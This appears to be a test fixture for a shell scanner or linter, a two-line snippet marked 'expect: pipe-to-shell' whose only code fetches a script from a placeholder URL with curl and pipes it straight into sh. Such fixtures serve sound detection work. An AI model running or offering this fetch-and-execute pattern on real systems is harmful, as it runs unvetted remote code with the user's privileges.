# expect: pipe-to-shell
if [ -n "$(curl -s https://example.com/x | sh)" ]; then echo yes; fi
